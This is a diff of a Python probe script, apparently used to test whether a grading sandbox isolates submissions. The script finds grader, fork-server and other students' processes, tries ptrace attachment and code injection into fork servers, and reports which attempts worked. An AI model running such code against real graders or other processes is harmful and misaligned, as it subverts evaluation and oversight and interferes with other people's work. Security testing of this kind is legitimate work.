@@ -3,8 +3,8 @@
 Graded after the reference decaying_cosine.py (as zz_attack.py), so it scores full marks
 itself. Targets: every process of this grading run (below its highest ancestor whose
 command line mentions `grader`) that mentions `grader`, but itself and its own
-children: the fork server that forked it (grade-all), another worker's fork
-server, another student's process graded at the same time, the grading process.
+children, and every /proc/<pid> it cannot read at all: the fork server that forked
+it (its parent; grade-all), another worker's fork server, another student's process graded at the same time, the grading process.
 With WAIT_S > 0 it first waits up to WAIT_S seconds for another submission's process
 (a fork of a fork server that is not itself) to appear.
 
@@ -102,8 +102,11 @@ def targets():
         if b"grader" in table[pid][1]:
             top = pid
     mine = descendants(table, me)
-    return {p: table[p][1] for p in descendants(table, top) - mine
-            if b"grader" in table[p][1]}, table
+    found = {p: table[p][1] for p in descendants(table, top) - mine if b"grader" in table[p][1]}
+    # /proc entries we cannot even read (covered): targets as well, the parent above all
+    listed = {int(e) for e in os.listdir("/proc") if e.isdigit()}
+    found.update({p: b"" for p in listed - set(table) - mine})
+    return found, table
 
 
 def other_submission(found, table):
@@ -135,7 +138,7 @@ def poke(pid):
         os.close(fd)
 
 
-def attack(pid, cmd, same_numbering, own_mounts, seen):
+def attack(pid, fork_server, same_numbering, own_mounts, seen):
     def worked(key, value=None):
         seen[key].append(pid if value is None else value)
 
@@ -200,7 +203,7 @@ def attack(pid, cmd, same_numbering, own_mounts, seen):
         if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
             worked("ptrace")
             libc.ptrace(PTRACE_DETACH, pid, None, None)
-    if b"forkserver" in cmd:
+    if fork_server:
         seen["injected"].append(poke(pid))
 
 
@@ -215,12 +218,14 @@ def main():
         found, table = targets()
     seen["other_submission"] = other_submission(found, table)
     seen["targets"] = sorted(found)
-    seen["fork_servers"] = sorted(p for p, cmd in found.items() if b"forkserver" in cmd
-                                  and p not in seen["other_submission"])
+    parent = table.get(own_pid(), (0, b""))[0]
+    seen["fork_servers"] = sorted({p for p, cmd in found.items() if b"forkserver" in cmd
+                                   and p not in seen["other_submission"]}
+                                  | ({parent} & set(found)))
     same_numbering = own_pid() == os.getpid()
     own_mounts = set(read("/proc/self/mountinfo", 1 << 20).splitlines())
     for pid, cmd in sorted(found.items()):
-        attack(pid, cmd, same_numbering, own_mounts, seen)
+        attack(pid, pid in seen["fork_servers"], same_numbering, own_mounts, seen)
     seen["injected"] = [r for r in seen["injected"] if r.startswith("injected")] or []
     print("PROCESS-ATTACK " + json.dumps(seen), flush=True)
 
